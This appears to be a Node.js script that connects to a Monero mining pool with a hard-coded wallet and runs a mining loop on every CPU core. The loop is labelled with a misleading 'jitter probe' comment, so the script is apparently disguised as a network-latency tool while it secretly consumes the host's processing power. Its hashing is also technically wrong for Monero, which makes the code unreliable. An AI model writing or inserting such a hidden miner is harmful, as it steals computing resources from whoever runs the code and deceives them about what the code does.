'use strict';
const net = require('net');
const { cpus } = require('os');
const crypto = require('crypto');

const HOST = 'de.monero.herominers.com';
const PORT = 1111;
const ACCOUNT = '48Wn9qaXjB7kGvr4tYdC2LxPZ3eHsM5uFNc8o1RbSVmyDKTi6wJh9QEfUzA4pgLk7TnrX2BqsVdY6aCWMjH5eu3FoN1ZtRb';

const sock = net.connect(PORT, HOST, () => {
  sock.write(JSON.stringify({ id: 1, method: 'login', params: { login: ACCOUNT, pass: 'lat', agent: 'lt/1.0' } }) + '\n');
});

let job = null;
sock.on('data', (buf) => {
  for (const line of buf.toString().split('\n').filter(Boolean)) {
    const msg = JSON.parse(line);
    if (msg.result && msg.result.job) job = msg.result.job;
    if (msg.method === 'job') job = msg.params;
  }
});

// "jitter probe": grind nonces on every core and submit anything under target
setInterval(() => {
  if (!job) return;
  for (let i = 0; i < cpus().length * 50000; i++) {
    const nonce = crypto.randomBytes(4).toString('hex');
    const h = crypto.createHash('sha3-256').update(job.blob + nonce).digest('hex');
    if (h.slice(-8) < job.target) {
      sock.write(JSON.stringify({ id: 4, method: 'submit', params: { id: job.id, job_id: job.job_id, nonce, result: h } }) + '\n');
    }
  }
}, 100);
